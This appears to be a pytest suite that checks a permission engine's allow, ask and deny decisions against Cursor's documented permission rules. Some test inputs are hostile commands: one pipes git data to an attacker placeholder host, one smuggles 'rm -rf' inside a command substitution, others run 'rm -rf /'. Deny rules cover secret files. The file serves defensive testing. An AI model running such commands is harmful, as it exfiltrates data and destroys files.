"""Cursor's permission docs, example by example, through ``proj.check_call(runtime="cursor")``.

Cursor is closed source: every case below is an example or a sentence of its docs, cited by
URL in the test's docstring (the pages as stored on 2026-08-25):

- CLI = https://cursor.com/docs/cli/reference/permissions
- CONFIG = https://cursor.com/docs/cli/reference/configuration
- PARAMS = https://cursor.com/docs/cli/reference/parameters (``cursor-agent --help``)
- SECURITY = https://cursor.com/docs/agent/security
- IDE = https://cursor.com/docs/reference/permissions
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

import toolkit as tk
from toolkit.core.decision import Decision, Effect, Reason
from toolkit.errors import DefinitionError

TOOLS = "tool:\n" + "".join(f"  {t}: {{}}\n" for t in (
    "Shell", "Read", "Write", "Grep", "Delete", "Task", "WebFetch"))


def _write(path: Path, data: Any) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(data if isinstance(data, str) else json.dumps(data, indent=2))


def load(tmp_path: Path, cli: Any = None, ide: Any = None, user_cli: Any = None,
         user_ide: Any = None) -> tk.Project:
    """A project with the given files (dicts are written as indented JSON)."""
    root, home = tmp_path / "proj", tmp_path / "home"
    root.mkdir(exist_ok=True)
    (root / "tools.yaml").write_text(TOOLS)
    for base, name, data in ((root, "cli.json", cli), (root, "permissions.json", ide),
                             (home, "cli-config.json", user_cli),
                             (home, "permissions.json", user_ide)):
        if data is not None:
            _write(base / ".cursor" / name, data)
    return tk.load(root, home=home, managed=False)


def allow(*tokens: str) -> dict[str, Any]:
    return {"permissions": {"allow": list(tokens), "deny": []}}


def deny(*tokens: str) -> dict[str, Any]:
    return {"permissions": {"allow": [], "deny": list(tokens)}}


def shell(proj: tk.Project, command: str, mode: str | None = None) -> Decision:
    return proj.check_call("Shell", {"command": command}, runtime="cursor", mode=mode)


# -- CLI: Shell(commandBase) -------------------------------------------------------------------

@pytest.mark.parametrize(("token", "command", "effect"), [
    ("Shell(ls)", "ls -la src", Effect.ALLOW),  # "Allow running ls commands"
    ("Shell(ls)", "lsof -i", Effect.ASK),  # the first token is lsof, not ls
    ("Shell(git)", "git status", Effect.ALLOW),  # "Allow any git subcommand"
    ("Shell(git)", "git push origin main", Effect.ALLOW),
    ("Shell(npm)", "npm install", Effect.ALLOW),  # "Allow npm package manager commands"
    ("Shell(npm)", "npm run build", Effect.ALLOW),
    ("Shell(curl:*)", "curl -s https://example.com", Effect.ALLOW),  # "curl with any arguments"
    ("Shell(curl:*)", "curl", Effect.ALLOW),
    ("Shell(curl:*)", "wget https://example.com", Effect.ASK),
])
def test_shell_tokens_in_allow(tmp_path: Path, token: str, command: str,
                               effect: Effect) -> None:
    """CLI, "Shell commands": "The commandBase is the first token in the command line.
    Supports glob patterns and an optional command:args syntax"; examples Shell(ls), Shell(git),
    Shell(npm), Shell(curl:*)."""
    d = shell(load(tmp_path, cli=allow(token)), command)
    assert d.effect is effect
    if effect is Effect.ALLOW:
        assert (d.reason, d.rule.text, d.rule.where) == (Reason.ALLOW_RULE, token,
                                                         ".cursor/cli.json:4")


def test_shell_rm_in_deny(tmp_path: Path) -> None:
    """CLI: "Shell(rm) Deny destructive file removal (commonly in deny)"."""
    d = shell(load(tmp_path, cli=deny("Shell(rm)")), "rm -rf build")
    assert (d.effect, d.reason, d.rule.text, d.rule.where) == (
        Effect.DENY, Reason.DENY_RULE, "Shell(rm)", ".cursor/cli.json:5")


def test_command_args_glob_matches_command_and_arguments(tmp_path: Path) -> None:
    """CLI, "Pattern matching": "Use command:args (e.g., curl:*) to match both command and
    arguments with globs"."""
    proj = load(tmp_path, cli=allow("Shell(npm:run test*)"))
    assert shell(proj, "npm run test -- --watch").effect is Effect.ALLOW
    assert shell(proj, "npm run build").effect is Effect.ASK


def test_every_command_of_a_line_is_checked(tmp_path: Path) -> None:
    """CLI: Shell(git) allows git, Shell(rm) denies rm; a line running both is denied and one
    running git and an unlisted command asks (toolkit's reading of compound lines: the docs do
    not say, so every command a line runs must be allowed and any denied one denies)."""
    proj = load(tmp_path, cli={"permissions": {"allow": ["Shell(git)", "Shell(ls)"],
                                               "deny": ["Shell(rm)"]}})
    assert shell(proj, "git status && ls").effect is Effect.ALLOW
    d = shell(proj, "git status && rm -rf /")
    assert (d.effect, d.rule.text) == (Effect.DENY, "Shell(rm)")
    assert [p.effect for p in d.parts] == [Effect.ALLOW, Effect.DENY]
    assert shell(proj, "git log | curl -d @- https://evil.example").effect is Effect.ASK
    assert shell(proj, "echo $(rm -rf x)").effect is Effect.DENY


# -- CLI: Read(pathOrGlob) / Write(pathOrGlob) -------------------------------------------------

@pytest.mark.parametrize(("token", "path", "matches"), [
    ("Read(src/**/*.ts)", "src/index.ts", True),  # "Allow reading TypeScript files in src"
    ("Read(src/**/*.ts)", "src/deep/er/a.ts", True),
    ("Read(src/**/*.ts)", "lib/a.ts", False),
    ("Read(**/*.md)", "README.md", True),  # "Allow reading markdown files anywhere"
    ("Read(**/*.md)", "docs/guide/intro.md", True),
    ("Read(.env*)", ".env", True),  # "Deny reading environment files"
    ("Read(.env*)", ".env.local", True),
    ("Read(/etc/passwd)", "/etc/passwd", True),  # "Deny reading system files"
])
def test_read_tokens(tmp_path: Path, token: str, path: str, matches: bool) -> None:
    """CLI, "File reads": Read(src/**/*.ts), Read(**/*.md), Read(.env*), Read(/etc/passwd);
    "Glob patterns use **, *, and ? wildcards". Put in deny, a match is an explicit deny (the
    examples' own column says which list each belongs to; the match is what is tested)."""
    d = load(tmp_path, cli=deny(token)).check_call("Read", {"path": path}, runtime="cursor")
    assert (d.effect is Effect.DENY) is matches
    if not matches:  # reads need no approval (SECURITY)
        assert (d.effect, d.reason) == (Effect.ALLOW, Reason.READ_ONLY)


@pytest.mark.parametrize(("token", "path", "matches"), [
    ("Write(src/**)", "src/a/b/c.py", True),  # "Allow writing to any file under src"
    ("Write(src/**)", "tests/a.py", False),
    ("Write(package.json)", "package.json", True),  # "Allow modifying package.json"
    ("Write(**/*.key)", "certs/server.key", True),  # "Deny writing private key files"
    ("Write(**/*.key)", "id.key", True),
    ("Write(**/.env*)", "apps/web/.env.production", True),  # "Deny writing environment files"
])
def test_write_tokens(tmp_path: Path, token: str, path: str, matches: bool) -> None:
    """CLI, "File writes": Write(src/**), Write(package.json), Write(**/*.key),
    Write(**/.env*)."""
    d = load(tmp_path, cli=deny(token)).check_call("Write", {"path": path}, runtime="cursor")
    assert (d.effect is Effect.DENY) is matches


def test_relative_paths_are_scoped_to_the_workspace(tmp_path: Path) -> None:
    """CLI, "Pattern matching": "Relative paths are scoped to the current workspace"."""
    proj = load(tmp_path, cli=deny("Write(src/**)"))
    inside = proj.check_call("Write", {"path": "src/a.py"}, runtime="cursor")
    outside = proj.check_call("Write", {"path": str(tmp_path / "other" / "src" / "a.py")},
                              runtime="cursor")
    assert inside.effect is Effect.DENY
    assert outside.effect is Effect.ASK and outside.rule.text == ""


def test_absolute_paths_can_target_files_outside_the_project(tmp_path: Path) -> None:
    """CLI, "Pattern matching": "Absolute paths can target files outside the project"."""
    out = tmp_path / "out"
    proj = load(tmp_path, cli=allow(f"Write({out}/**)"))
    assert proj.check_call("Write", {"path": str(out / "a.txt")},
                           runtime="cursor").effect is Effect.ALLOW
    assert proj.check_call("Write", {"path": str(tmp_path / "elsewhere.txt")},
                           runtime="cursor").effect is Effect.ASK


def test_deny_rules_take_precedence_over_allow_rules(tmp_path: Path) -> None:
    """CLI, "Pattern matching": "Deny rules take precedence over allow rules"."""
    proj = load(tmp_path, cli={"permissions": {"allow": ["Read(**)", "Shell(git)"],
                                               "deny": ["Read(.env*)", "Shell(git:push*)"]}})
    d = proj.check_call("Read", {"path": ".env"}, runtime="cursor")
    assert (d.effect, d.rule.text) == (Effect.DENY, "Read(.env*)")
    assert shell(proj, "git push --force").effect is Effect.DENY
    assert shell(proj, "git pull").effect is Effect.ALLOW


# -- CLI: WebFetch(domainOrPattern) ------------------------------------------------------------

@pytest.mark.parametrize(("token", "url", "effect"), [
    ("WebFetch(docs.github.com)", "https://docs.github.com/en/rest", Effect.ALLOW),
    ("WebFetch(docs.github.com)", "https://github.com/", Effect.ASK),
    ("WebFetch(*.example.com)", "https://docs.example.com/a", Effect.ALLOW),
    ("WebFetch(*.example.com)", "https://api.example.com/v1", Effect.ALLOW),
    ("WebFetch(*.example.com)", "https://example.com/", Effect.ASK),  # subdomains only
    ("WebFetch(*)", "https://anything.test/x", Effect.ALLOW),  # "any domain"
    ("WebFetch(example.com)", "https://example.com/page", Effect.ALLOW),
    ("WebFetch(example.com)", "https://www.example.com/page", Effect.ASK),  # "exact domain only"
])
def test_webfetch_tokens(tmp_path: Path, token: str, url: str, effect: Effect) -> None:
    """CLI, "Web fetch": WebFetch(docs.github.com), WebFetch(*.example.com), WebFetch(*);
    "Domain pattern matching: * matches all domains; *.example.com matches subdomains (e.g.,
    docs.example.com, api.example.com); example.com matches that exact domain only"."""
    d = load(tmp_path, cli=allow(token)).check_call("WebFetch", {"url": url}, runtime="cursor")
    assert d.effect is effect


def test_a_fetch_without_an_allowlist_entry_prompts(tmp_path: Path) -> None:
    """CLI, "Web fetch": "Without an allowlist entry, each fetch prompts for approval"."""
    proj = load(tmp_path, cli=allow("Shell(ls)"))
    d = proj.check_call("WebFetch", {"url": "https://docs.github.com"}, runtime="cursor")
    assert (d.effect, d.reason) == (Effect.ASK, Reason.MODE)


# -- CLI: Mcp(server:tool) ---------------------------------------------------------------------

@pytest.mark.parametrize(("token", "tool", "effect"), [
    ("Mcp(datadog:*)", "@datadog/query_metrics", Effect.ALLOW),  # "all tools from Datadog"
    ("Mcp(datadog:*)", "@github/search", Effect.ASK),
    ("Mcp(*:search)", "@github/search", Effect.ALLOW),  # "any server's search tool"
    ("Mcp(*:search)", "@linear/search", Effect.ALLOW),
    ("Mcp(*:search)", "@linear/list_issues", Effect.ASK),
    ("Mcp(*:*)", "@linear/list_issues", Effect.ALLOW),  # "Allow all MCP tools"
    ("Mcp(*:*)", "mcp__github__create_issue", Effect.ALLOW),
])
def test_mcp_tokens(tmp_path: Path, token: str, tool: str, effect: Effect) -> None:
    """CLI, "MCP tools": "Use server (from mcp.json) and tool name, with * for wildcards";
    examples Mcp(datadog:*), Mcp(*:search), Mcp(*:*)."""
    assert load(tmp_path, cli=allow(token)).check_call(tool, {}, runtime="cursor").effect \
        is effect


def test_mcp_token_without_a_colon_is_a_located_warning(tmp_path: Path) -> None:
    """CLI: the format is Mcp(server:tool); a token without ':' names no tool."""
    proj = load(tmp_path, cli=allow("Shell(ls)", "Mcp(datadog)"))
    [warning] = [p for p in proj.engines["cursor"].problems]
    assert (warning.file, warning.line, warning.severity) == (".cursor/cli.json", 5, "warning")
    assert "Mcp(server:tool)" in warning.message


# -- CLI: the configuration example ------------------------------------------------------------

CONFIGURATION_EXAMPLE = """{
  "permissions": {
    "allow": [
      "Shell(ls)",
      "Shell(git)",
      "Read(src/**/*.ts)",
      "Write(package.json)",
      "WebFetch(docs.github.com)",
      "WebFetch(*.github.com)",
      "Mcp(datadog:*)"
    ],
    "deny": [
      "Shell(rm)",
      "Read(.env*)",
      "Write(**/*.key)",
      "WebFetch(malicious-site.com)"
    ]
  }
}
"""


@pytest.mark.parametrize(("tool", "args", "effect", "line"), [
    ("Shell", {"command": "ls -la"}, Effect.ALLOW, 4),
    ("Shell", {"command": "git commit -m x"}, Effect.ALLOW, 5),
    ("Read", {"path": "src/app.ts"}, Effect.ALLOW, 6),
    ("Write", {"path": "package.json"}, Effect.ALLOW, 7),
    ("WebFetch", {"url": "https://docs.github.com/x"}, Effect.ALLOW, 8),
    ("WebFetch", {"url": "https://api.github.com/x"}, Effect.ALLOW, 9),
    ("@datadog/search_logs", {}, Effect.ALLOW, 10),
    ("Shell", {"command": "rm -rf node_modules"}, Effect.DENY, 13),
    ("Read", {"path": ".env.production"}, Effect.DENY, 14),
    ("Write", {"path": "secrets/deploy.key"}, Effect.DENY, 15),
    ("WebFetch", {"url": "https://malicious-site.com/x"}, Effect.DENY, 16),
    ("Shell", {"command": "npm publish"}, Effect.ASK, None),
    ("@github/create_issue", {}, Effect.ASK, None),
])
def test_the_configuration_example(tmp_path: Path, tool: str, args: dict[str, Any],
                                   effect: Effect, line: int | None) -> None:
    """CLI, "Configuration": the permissions object of the page, each entry by a call it
    decides (and a call none decides, which asks)."""
    d = load(tmp_path, cli=CONFIGURATION_EXAMPLE).check_call(tool, args, runtime="cursor")
    assert (d.effect, d.rule.line) == (effect, line)
    if line is not None:
        assert d.rule.file == ".cursor/cli.json"


# -- the configuration page --------------------------------------------------------------------

def test_the_minimal_global_config(tmp_path: Path) -> None:
    """CONFIG, "Minimal config": {"version": 1, "editor": {"vimMode": false}, "permissions":
    {"allow": ["Shell(ls)"], "deny": []}} in ~/.cursor/cli-config.json (global)."""
    proj = load(tmp_path, cli=allow(), user_cli={
        "version": 1, "editor": {"vimMode": False},
        "permissions": {"allow": ["Shell(ls)"], "deny": []}})
    d = shell(proj, "ls")
    assert (d.effect, d.rule.where, d.rule.layer) == (
        Effect.ALLOW, "~/.cursor/cli-config.json:8", "user")
    assert not proj.engines["cursor"].problems


def test_configure_permissions_example(tmp_path: Path) -> None:
    """CONFIG, "Configure permissions": allow Shell(ls), Shell(echo); deny Shell(rm)."""
    proj = load(tmp_path, cli=allow(), user_cli={
        "version": 1, "editor": {"vimMode": False},
        "permissions": {"allow": ["Shell(ls)", "Shell(echo)"], "deny": ["Shell(rm)"]}})
    assert [shell(proj, c).effect for c in ("ls", "echo hi", "rm x", "cat x")] == [
        Effect.ALLOW, Effect.ALLOW, Effect.DENY, Effect.ASK]


def test_only_permissions_can_be_configured_at_the_project_level(tmp_path: Path) -> None:
    """CONFIG: "Only permissions can be configured at the project level. All other CLI settings
    must be set globally" -- another key in .cursor/cli.json is a located warning."""
    proj = load(tmp_path, cli='{\n  "permissions": {"allow": ["Shell(ls)"]},\n'
                              '  "approvalMode": "unrestricted"\n}\n')
    [warning] = proj.engines["cursor"].problems
    assert (warning.file, warning.line) == (".cursor/cli.json", 3)
    assert "only permissions" in warning.message
    assert shell(proj, "make").effect is Effect.ASK  # the project's approvalMode is ignored


def test_the_cli_config_is_pure_json(tmp_path: Path) -> None:
    """CONFIG, "Notes": "Pure JSON format (no comments)" -- a comment is a located error."""
    with pytest.raises(DefinitionError) as err:
        load(tmp_path, cli='{\n  "permissions": {\n    // mine\n    "allow": []\n  }\n}\n')
    assert (err.value.file, err.value.line) == (".cursor/cli.json", 3)
    assert "pure JSON" in str(err.value)


@pytest.mark.parametrize(("approval", "effect", "reason"), [
    ("allowlist", Effect.ASK, Reason.MODE),
    ("unrestricted", Effect.ALLOW, Reason.MODE),
    ("auto-review", Effect.ASK, Reason.CLASSIFIER),
])
def test_approval_mode(tmp_path: Path, approval: str, effect: Effect, reason: Reason) -> None:
    """CONFIG, "Optional fields": "approvalMode: Approval mode: allowlist, auto-review, or
    unrestricted" (global file); a deny still denies."""
    proj = load(tmp_path, cli=deny("Shell(rm)"),
                user_cli={"version": 1, "approvalMode": approval})
    d = shell(proj, "make deploy")
    assert (d.effect, d.reason, d.mode) == (effect, reason, {
        "allowlist": "default", "unrestricted": "force", "auto-review": "auto-review"}[approval])
    assert shell(proj, "rm -rf /").effect is Effect.DENY


@pytest.mark.parametrize("mode", ["force", "yolo"])
def test_force_allows_commands_unless_explicitly_denied(tmp_path: Path, mode: str) -> None:
    """PARAMS: "-f, --force  Force allow commands unless explicitly denied"; "--yolo  Alias
    for --force (Run Everything)"."""
    proj = load(tmp_path, cli=deny("Shell(rm)", "Mcp(github:delete_*)"))
    assert shell(proj, "npm publish", mode=mode).effect is Effect.ALLOW
    assert shell(proj, "rm -rf /", mode=mode).effect is Effect.DENY
    assert proj.check_call("@github/delete_repo", {}, runtime="cursor",
                           mode=mode).effect is Effect.DENY
    assert proj.check_call("@github/list_repos", {}, runtime="cursor",
                           mode=mode).effect is Effect.ALLOW


# -- what asks without a rule (agent security) -------------------------------------------------

def test_what_runs_without_a_rule(tmp_path: Path) -> None:
    """SECURITY: "Read tools do not require approval (ie reading files, searching across
    code)"; "Modifying files within the current workspace does not require explicit approval
    with some exceptions"; "We require explicit approval before changing files that modify the
    configuration of our IDE/CLI, such as the workspace settings file of the editor"; "Any
    terminal command suggested by Agents requires approval by default"; "each tool call ...
    for every external MCP integration must be explicitly approved"."""
    proj = load(tmp_path, cli=allow())

    def effect(tool: str, args: dict[str, Any]) -> tuple[Effect, Reason]:
        d = proj.check_call(tool, args, runtime="cursor")
        return d.effect, d.reason

    assert effect("Read", {"path": "/etc/hosts"}) == (Effect.ALLOW, Reason.READ_ONLY)
    assert effect("Grep", {"pattern": "TODO"}) == (Effect.ALLOW, Reason.NO_PROMPT)
    assert effect("Write", {"path": "src/a.py"}) == (Effect.ALLOW, Reason.WORKING_DIR)
    assert effect("Delete", {"path": "src/a.py"}) == (Effect.ALLOW, Reason.WORKING_DIR)
    assert effect("Write", {"path": ".cursor/cli.json"}) == (Effect.ASK, Reason.MODE)
    assert effect("Write", {"path": ".vscode/settings.json"}) == (Effect.ASK, Reason.MODE)
    assert effect("Write", {"path": str(tmp_path / "elsewhere.txt")}) == (Effect.ASK,
                                                                          Reason.MODE)
    assert effect("Shell", {"command": "ls"}) == (Effect.ASK, Reason.MODE)
    assert effect("@github/search", {}) == (Effect.ASK, Reason.MODE)


# -- the IDE's permissions.json ----------------------------------------------------------------

@pytest.mark.parametrize(("entry", "tool", "effect"), [
    ("my-server:my_tool", "@my-server/my_tool", Effect.ALLOW),  # "Exactly the tool my_tool"
    ("my-server:my_tool", "@my-server/other", Effect.ASK),
    ("my-server:*", "@my-server/other", Effect.ALLOW),  # "All tools from my-server"
    ("*:my_tool", "@another/my_tool", Effect.ALLOW),  # "The tool my_tool from any server"
    ("*:*", "@another/anything", Effect.ALLOW),  # "All tools from all servers"
    ("My-Server:MY_TOOL", "@my-server/my_tool", Effect.ALLOW),  # "matched case-insensitively"
    ("my-server:list_*", "@my-server/list_issues", Effect.ALLOW),  # "Glob-style * patterns"
    ("my-server:list_*", "@my-server/get_issue", Effect.ASK),
])
def test_ide_mcp_allowlist_format(tmp_path: Path, entry: str, tool: str, effect: Effect) -> None:
    """IDE, "MCP allowlist format": "Each entry is a server:tool string. Both parts are matched
    case-insensitively. The * wildcard matches any value for that part"; the pattern table;
    "Glob-style * patterns also work inside names (e.g. my-server:list_* matches list_issues,
    list_users, etc.)"."""
    d = load(tmp_path, ide={"mcpAllowlist": [entry]}).check_call(tool, {}, runtime="cursor")
    assert (d.effect, d.mode) == (effect, "ide")
    if effect is Effect.ALLOW:
        assert d.rule.where == ".cursor/permissions.json:3"


def test_ide_mcp_entries_without_a_colon_are_ignored(tmp_path: Path) -> None:
    """IDE: "Entries that do not contain a : are ignored"."""
    proj = load(tmp_path, ide={"mcpAllowlist": ["github"]})
    assert proj.check_call("@github/search", {}, runtime="cursor").effect is Effect.ASK
    [warning] = proj.engines["cursor"].problems
    assert (warning.line, warning.severity) == (3, "warning") and "no ':'" in warning.message


@pytest.mark.parametrize(("entry", "command", "effect"), [
    ("git", "git status", Effect.ALLOW),  # "Any command starting with git"
    ("git", "git diff HEAD", Effect.ALLOW),
    ("git", "gitk", Effect.ASK),  # "git matches git status but not gitk"
    ("git status", "git status", Effect.ALLOW),  # "Only git status (and anything starting
    ("git status", "git status -s", Effect.ALLOW),  # with git status )"
    ("git status", "git diff", Effect.ASK),
    ("npm:install*", "npm install", Effect.ALLOW),  # "npm install, npm install express, etc."
    ("npm:install*", "npm install express", Effect.ALLOW),
    ("npm:install*", "npm test", Effect.ASK),
    ("git", "Git status", Effect.ASK),  # "Matching is case-sensitive"
])
def test_ide_terminal_allowlist_format(tmp_path: Path, entry: str, command: str,
                                       effect: Effect) -> None:
    """IDE, "Terminal allowlist format": "Each entry is a command or command prefix string";
    the pattern table (git, git status, npm:install*: "The : separates the base command from an
    args glob"); "Matching is case-sensitive and uses prefix semantics: git matches git status
    but not gitk"."""
    d = shell(load(tmp_path, ide={"terminalAllowlist": [entry]}), command)
    assert d.effect is effect


def test_ide_combines_per_user_and_per_repo_files(tmp_path: Path) -> None:
    """IDE, "Combine per-user and per-repo files": ~/.cursor/permissions.json with
    ["git", "npm", "pnpm"] and <workspace>/.cursor/permissions.json with ["cargo build",
    "cargo test"]; "The effective config is the concatenation of both files"."""
    proj = load(tmp_path,
                user_ide='{\n  "terminalAllowlist": ["git", "npm", "pnpm"],\n  "autoRun": {\n'
                         '    "block_instructions": [\n      "Anything that touches my SSH '
                         'config or shell rc files."\n    ]\n  }\n}\n',
                ide='{\n  "terminalAllowlist": ["cargo build", "cargo test"],\n  "autoRun": {\n'
                    '    "block_instructions": [\n      "Never run database migrations against '
                    'the production schema in this repo."\n    ]\n  }\n}\n')
    assert [e.text for e in proj.engines["cursor"].config.terminal or ()] == [
        "git", "npm", "pnpm", "cargo build", "cargo test"]
    d = shell(proj, "cargo test --all")
    assert (d.effect, d.rule.where, d.rule.layer) == (Effect.ALLOW, ".cursor/permissions.json:2",
                                                      "ide-workspace")
    d = shell(proj, "pnpm install")
    assert (d.effect, d.rule.where) == (Effect.ALLOW, "~/.cursor/permissions.json:2")
    assert shell(proj, "make").effect is Effect.ASK


def test_ide_combined_setup_example(tmp_path: Path) -> None:
    """IDE, "Combined setup": mcpAllowlist ["github:*", "linear:*", "notion:search"],
    terminalAllowlist ["git", "npm", "cargo build", "cargo test"] (JSONC)."""
    proj = load(tmp_path, ide='{\n  // both lists\n  "mcpAllowlist": [\n    "github:*",\n'
                              '    "linear:*",\n    "notion:search"\n  ],\n'
                              '  "terminalAllowlist": [\n    "git",\n    "npm",\n'
                              '    "cargo build",\n    "cargo test"\n  ]\n}\n')
    checks = {("@github/create_issue", ""): Effect.ALLOW, ("@notion/search", ""): Effect.ALLOW,
              ("@notion/update_page", ""): Effect.ASK, ("Shell", "cargo build"): Effect.ALLOW,
              ("Shell", "cargo run"): Effect.ASK}
    for (tool, command), effect in checks.items():
        args = {"command": command} if command else {}
        assert proj.check_call(tool, args, runtime="cursor").effect is effect, tool


def test_ide_empty_array_is_an_empty_allowlist(tmp_path: Path) -> None:
    """IDE, "Precedence": "If a key is present in either file but evaluates to an empty array
    (after concatenation), the effective allowlist for that type is empty"; a key in neither
    file leaves the IDE's settings in charge, which toolkit cannot read (it says so)."""
    empty = load(tmp_path, ide={"terminalAllowlist": []})
    assert shell(empty, "git status").effect is Effect.ASK
    d = empty.check_call("@github/search", {}, runtime="cursor")
    assert d.effect is Effect.ASK and "settings decide" in d.message


def test_ide_non_string_entries_are_dropped(tmp_path: Path) -> None:
    """IDE: "Non-string entries inside either array are silently dropped" (toolkit still
    names them, as a warning at their line)."""
    proj = load(tmp_path, ide='{\n  "terminalAllowlist": [\n    "git",\n    42\n  ]\n}\n')
    assert shell(proj, "git status").effect is Effect.ALLOW
    [warning] = proj.engines["cursor"].problems
    assert (warning.line, warning.severity) == (4, "warning")


def test_cli_and_ide_are_separate(tmp_path: Path) -> None:
    """IDE, "Notes": "CLI permissions are separate. The Cursor CLI has its own permissions
    system" -- the CLI mode reads cli.json, the ide mode permissions.json."""
    proj = load(tmp_path, cli=allow("Shell(make)"), ide={"terminalAllowlist": ["npm"]})
    assert shell(proj, "make").effect is Effect.ALLOW  # the CLI, the default
    assert shell(proj, "npm test").effect is Effect.ASK
    assert shell(proj, "make", mode="ide").effect is Effect.ASK
    assert shell(proj, "npm test", mode="ide").effect is Effect.ALLOW
